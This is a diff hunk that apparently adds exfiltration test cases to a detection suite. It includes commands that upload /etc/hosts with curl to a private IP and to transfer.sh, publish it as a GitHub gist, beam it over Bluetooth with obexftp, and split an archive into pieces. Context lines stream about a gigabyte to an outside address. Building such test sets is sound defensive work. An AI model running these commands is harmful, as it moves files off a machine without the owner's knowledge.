@@ -18,3 +18,16 @@ taking = threading.Thread(target=take); taking.start()
 client = socket.create_connection(("203.0.113.9", 443))
 for n in range(1010): client.sendall(bytes(1_000_000))
 client.close(); taking.join()'
+## Upload started by a timer
+#setup shell /usr/sbin/cron
+/usr/sbin/cron -c 'sh -c "curl -s -T /etc/hosts http://10.9.8.7/; :"; :'
+## Archive cut into pieces
+echo x > /tmp/x.tar; split -b 1 /tmp/x.tar /tmp/part
+## File left at a service for anybody
+curl -s -m 1 -T /etc/hosts https://transfer.sh/x
+## Text left in a repository of code
+#setup named /usr/bin/gh
+gh gist create /etc/hosts
+## Other way out of the machine opened
+#setup named /usr/bin/obexftp
+obexftp -b 00:11:22:33:44:55 -p /etc/hosts
